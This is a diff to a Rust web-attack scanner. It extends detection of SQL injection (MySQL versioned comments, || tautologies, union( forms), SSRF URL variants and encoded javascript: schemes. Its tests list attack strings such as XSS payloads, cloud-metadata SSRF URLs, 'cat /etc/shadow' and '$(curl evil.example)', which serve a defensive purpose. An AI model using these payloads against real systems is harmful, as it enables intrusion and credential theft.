@@ -140,13 +140,22 @@ fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
     hay.windows(needle.len()).position(|w| w == needle)
 }
 
-/// Skips white space, `+` and `/* ... */` comments (SQL's ways to separate words).
+/// Skips white space, `+` and `/* ... */` comments (SQL's ways to separate words). MySQL
+/// runs the text of a `/*! ... */` comment (`/*!50000UNION*/`): its opening, version and
+/// closing are skipped, its text is not.
 fn skip_sql_space(s: &[u8], mut i: usize) -> usize {
     loop {
         while i < s.len() && (is_ws(s[i]) || s[i] == b'+') {
             i += 1;
         }
-        if s.get(i..i + 2) == Some(b"/*") {
+        if s.get(i..i + 3) == Some(b"/*!") {
+            i += 3;
+            while i < s.len() && s[i].is_ascii_digit() {
+                i += 1;
+            }
+        } else if s.get(i..i + 2) == Some(b"*/") {
+            i += 2;
+        } else if s.get(i..i + 2) == Some(b"/*") {
             match find(&s[i + 2..], b"*/") {
                 Some(p) => i += p + 4,
                 None => return s.len(),
@@ -186,6 +195,9 @@ fn push(hits: &mut Vec<Hit>, kind: FindingKind, severity: Severity, rule: &'stat
 
 /// Scans one normalized (lowercase, decoded) value.
 pub(crate) fn scan(s: &[u8], hits: &mut Vec<Hit>) {
+    if s.iter().any(|&c| matches!(c, b'&' | b'\t' | b'\n' | b'\r')) {
+        hidden_script_url(s, hits);
+    }
     let n = s.len();
     let mut i = 0;
     while i < n {
@@ -199,12 +211,20 @@ pub(crate) fn scan(s: &[u8], hits: &mut Vec<Hit>) {
             continue;
         }
         match c {
+            // MySQL runs the text of `/*!50000 ... */`: its words are read without the version.
+            b'/' if s.get(i + 1..i + 3) == Some(b"*!") => {
+                i += 3;
+                while i < n && s[i].is_ascii_digit() {
+                    i += 1;
+                }
+                continue;
+            }
             b'\'' | b'"' => on_quote(s, i, hits),
             b'<' => on_angle(s, i, hits),
             b'.' if matches!(s.get(i + 1..i + 3), Some(b"./") | Some(b".\\") | Some(b".;")) => {
                 push(hits, FindingKind::PathTraversal, Severity::High, "dot-dot-slash")
             }
-            b':' if s.get(i + 1..i + 3) == Some(b"//") => on_url(s, i, hits),
+            b':' => on_url(s, i, hits),
             0 => push(hits, FindingKind::PathTraversal, Severity::Medium, "nul byte"),
             _ => {}
         }
@@ -223,6 +243,11 @@ fn on_quote(s: &[u8], i: usize, hits: &mut Vec<Hit>) {
     let raw_comment = s.get(i + 1..i + 3) == Some(b"/*");
     if comment || raw_comment {
         push(hits, FindingKind::SqlInjection, Severity::High, "quote then comment");
+    }
+    // `' || '1'='1`: `||` and `&&` are `or` and `and` in MySQL (and `||` joins strings in
+    // Oracle and PostgreSQL, which ends up compared all the same).
+    if rest.starts_with(b"||") || rest.starts_with(b"&&") {
+        tautology(s, j, j + 2, hits);
     }
 }
 
@@ -278,21 +303,147 @@ fn on_angle(s: &[u8], i: usize, hits: &mut Vec<Hit>) {
     }
 }
 
+/// Longest URL text after a scheme's colon that is normalized to find its host.
+const MAX_AUTHORITY: usize = 512;
+
 /// A URL: a dangerous scheme, or an http(s) URL to an internal address.
+///
+/// Read as WHATWG URL parsers (the `url` crate, reqwest, browsers) read it: tab, CR and LF
+/// are dropped anywhere (`ht\ttp://`), and for the special schemes `\` is a `/` and the
+/// slashes before the host may be missing (`http:\\169.254.169.254`, `http:10.0.0.1/`).
 fn on_url(s: &[u8], colon: usize, hits: &mut Vec<Hit>) {
-    let start = s[..colon].iter().rposition(|&c| !is_word(c)).map_or(0, |p| p + 1);
-    match &s[start..colon] {
-        b"file" | b"gopher" | b"dict" | b"ldap" | b"ldaps" | b"tftp" | b"jar" | b"netdoc" | b"phar"
-        | b"php" | b"expect" | b"sftp" => {
+    // The scheme: the letters before the colon, across dropped tabs and line breaks.
+    let mut scheme = [0u8; 8];
+    let mut len = 0;
+    let mut k = colon;
+    while k > 0 && (is_word(s[k - 1]) || matches!(s[k - 1], b'\t' | b'\n' | b'\r')) {
+        k -= 1;
+        if is_word(s[k]) {
+            if len == scheme.len() {
+                return;
+            }
+            scheme[len] = s[k];
+            len += 1;
+        }
+    }
+    let scheme = &mut scheme[..len];
+    scheme.reverse();
+    let special = matches!(&*scheme, b"http" | b"https" | b"ftp" | b"ws" | b"wss" | b"file");
+    if !special {
+        if s.get(colon + 1..colon + 3) == Some(b"//")
+            && matches!(
+                &*scheme,
+                b"gopher"
+                    | b"dict"
+                    | b"ldap"
+                    | b"ldaps"
+                    | b"tftp"
+                    | b"jar"
+                    | b"netdoc"
+                    | b"phar"
+                    | b"php"
+                    | b"expect"
+                    | b"sftp"
+            )
+        {
             push(hits, FindingKind::Ssrf, Severity::High, "dangerous url scheme");
         }
-        b"http" | b"https" | b"ftp" | b"ws" | b"wss" => {
-            if let Some((severity, rule)) = ssrf::classify_authority(&s[colon + 3..]) {
+        return;
+    }
+    // Normalized only after a special scheme: a value of many colons costs no copies.
+    let mut rest = [0u8; MAX_AUTHORITY];
+    let mut n = 0;
+    for &c in s[colon + 1..].iter().filter(|&&c| !matches!(c, b'\t' | b'\n' | b'\r')) {
+        if n == rest.len() {
+            break;
+        }
+        rest[n] = if c == b'\\' { b'/' } else { c };
+        n += 1;
+    }
+    let rest = &rest[..n];
+    let slashes = rest.iter().take_while(|&&c| c == b'/').count();
+    match &*scheme {
+        // `file` is special: `file:/etc/passwd` is a file URL too.
+        b"file" if slashes > 0 => push(hits, FindingKind::Ssrf, Severity::High, "dangerous url scheme"),
+        b"http" | b"https" | b"ftp" | b"ws" | b"wss" if rest.len() > slashes => {
+            if let Some((severity, rule)) = ssrf::classify_authority(&rest[slashes..]) {
                 push(hits, FindingKind::Ssrf, severity, rule);
             }
         }
         _ => {}
     }
+}
+
+/// `javascript:` hidden by HTML character references (`jav&#x09;ascript:`,
+/// `javascript&colon;`) or split by tab, CR or LF, which a browser decodes and drops before
+/// it reads the scheme of an attribute's URL.
+fn hidden_script_url(s: &[u8], hits: &mut Vec<Hit>) {
+    let mut text = Vec::with_capacity(s.len());
+    let mut i = 0;
+    while i < s.len() {
+        let (c, used) = if s[i] == b'&' { html_reference(&s[i..]).unwrap_or((b'&', 1)) } else { (s[i], 1) };
+        i += used;
+        if !matches!(c, b'\t' | b'\n' | b'\r' | 0) {
+            text.push(c.to_ascii_lowercase());
+        }
+    }
+    for scheme in [b"javascript".as_slice(), b"vbscript", b"livescript"] {
+        let mut from = 0;
+        while let Some(p) = find(&text[from..], scheme).map(|p| from + p) {
+            let boundary = p == 0 || !is_word(text[p - 1]);
+            let end = p + scheme.len();
+            if boundary && text.get(skip_sql_space(&text, end)) == Some(&b':') {
+                push(hits, FindingKind::Xss, Severity::High, "script url");
+                return;
+            }
+            from = end;
+        }
+    }
+}
+
+/// The ASCII byte an HTML character reference at the start of `s` stands for, and its
+/// length: numeric (`&#9;`, `&#x09;`, the `;` optional, as browsers accept) or one of the
+/// named ones that spell a URL's scheme or its separators. Non-ASCII references are `?`.
+fn html_reference(s: &[u8]) -> Option<(u8, usize)> {
+    if let Some(num) = s.strip_prefix(b"&#") {
+        let (digits, radix, skip) = match num.first() {
+            Some(b'x' | b'X') => (&num[1..], 16, 3),
+            _ => (num, 10, 2),
+        };
+        let len = digits
+            .iter()
+            .take_while(|c| c.is_ascii_hexdigit() && (radix == 16 || c.is_ascii_digit()))
+            .count();
+        if len == 0 {
+            return None;
+        }
+        // Leading zeros may pad a reference to any length.
+        let value = digits[..len].iter().skip_while(|&&c| c == b'0').try_fold(0u32, |acc, &c| {
+            let d = char::from(c).to_digit(radix)?;
+            acc.checked_mul(radix)?.checked_add(d).filter(|&v| v <= 0x10ffff)
+        });
+        let semi = usize::from(digits.get(len) == Some(&b';'));
+        let byte = value.and_then(|v| u8::try_from(v).ok()).filter(u8::is_ascii).unwrap_or(b'?');
+        return Some((byte, skip + len + semi));
+    }
+    const NAMED: &[(&[u8], u8)] = &[
+        (b"&tab;", b'\t'),
+        (b"&newline;", b'\n'),
+        (b"&colon;", b':'),
+        (b"&sol;", b'/'),
+        (b"&lpar;", b'('),
+        (b"&rpar;", b')'),
+        (b"&amp;", b'&'),
+        (b"&lt;", b'<'),
+        (b"&gt;", b'>'),
+        (b"&quot;", b'"'),
+        (b"&apos;", b'\''),
+        (b"&period;", b'.'),
+    ];
+    NAMED
+        .iter()
+        .find(|(name, _)| s.len() >= name.len() && s[..name.len()].eq_ignore_ascii_case(name))
+        .map(|&(name, c)| (c, name.len()))
 }
 
 /// Every word [`on_word`] and [`command`] act on: a word that is not one is skipped
@@ -409,10 +560,17 @@ fn on_word(s: &[u8], start: usize, end: usize, hits: &mut Vec<Hit>) {
     let sql = |hits: &mut Vec<Hit>, severity, rule| push(hits, FindingKind::SqlInjection, severity, rule);
     match w {
         b"union" => {
-            let mut n = next_word();
+            // `union(select ...)`: a parenthesis separates words as well as a space does.
             let mut j = next();
+            while s.get(j) == Some(&b'(') {
+                j = skip_sql_space(s, j + 1);
+            }
+            let mut n = word_at(s, j);
             if matches!(n, b"all" | b"distinct") {
                 j = skip_sql_space(s, j + n.len());
+                while s.get(j) == Some(&b'(') {
+                    j = skip_sql_space(s, j + 1);
+                }
                 n = word_at(s, j);
             }
             if n == b"select" {
@@ -658,6 +816,12 @@ mod tests {
             "1'%20or%20'1'%3D'1",
             "1%2527%20or%201%3D1",
             "select * from information_schema.tables",
+            "1 UNION(SELECT password FROM users)",
+            "1 union all(select 1)",
+            "1 /*!UNION*/ /*!SELECT*/ password FROM users",
+            "1 /*!50000union*//*!50000select*/ 1",
+            "' || '1'='1",
+            "x' && 'a'='a",
         ] {
             assert!(kinds(attack).contains(&FindingKind::SqlInjection), "missed {attack}");
         }
@@ -670,11 +834,26 @@ mod tests {
             ("<img src=x onerror=alert(1)>", FindingKind::Xss),
             ("<svg/onload=alert(1)>", FindingKind::Xss),
             ("javascript:alert(document.cookie)", FindingKind::Xss),
+            ("jav&#x09;ascript:alert(1)", FindingKind::Xss),
+            ("jav&#9ascript:alert(1)", FindingKind::Xss),
+            ("&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)", FindingKind::Xss),
+            ("javascript&colon;alert(1)", FindingKind::Xss),
+            ("java%0ascript:alert(1)", FindingKind::Xss),
+            ("jav&#x0000009;ascript:alert(1)", FindingKind::Xss),
             ("%3Cscript%3E", FindingKind::Xss),
             ("../../etc/passwd", FindingKind::PathTraversal),
             ("..%2f..%2fwindows%2fwin.ini", FindingKind::PathTraversal),
             ("%252e%252e%252fetc", FindingKind::PathTraversal),
             ("file%00.png", FindingKind::PathTraversal),
+            ("http://169.254.169.254/latest/meta-data/", FindingKind::Ssrf),
+            ("http:\\\\169.254.169.254\\latest\\meta-data", FindingKind::Ssrf),
+            ("http:169.254.169.254/", FindingKind::Ssrf),
+            ("http:/127.0.0.1/admin", FindingKind::Ssrf),
+            ("ht\ttp://10.0.0.1/", FindingKind::Ssrf),
+            ("http:/\t/169.254.169.254/", FindingKind::Ssrf),
+            ("https:\\/localhost:8080", FindingKind::Ssrf),
+            ("ftp:%5C%5C192.168.0.1", FindingKind::Ssrf),
+            ("file:/etc/passwd", FindingKind::Ssrf),
             ("x; cat /etc/shadow", FindingKind::CommandInjection),
             ("a | whoami", FindingKind::CommandInjection),
             ("$(curl evil.example)", FindingKind::CommandInjection),
@@ -707,6 +886,12 @@ mod tests {
             "curl/8.4.0",
             "update my address please; set it to the new one",
             "It's 50% off",
+            "Tom &amp; Jerry &#169; 2024 &lt;3",
+            "See the docs at http: example.com or https:public.example.org",
+            "Reunion (select guests only)",
+            "The file: report.pdf; see http: the protocol",
+            "'a' || 'b' is how you join strings",
+            "javascript is a language & so is java",
         ] {
             assert_eq!(kinds(benign), Vec::<FindingKind>::new(), "flagged {benign}");
         }
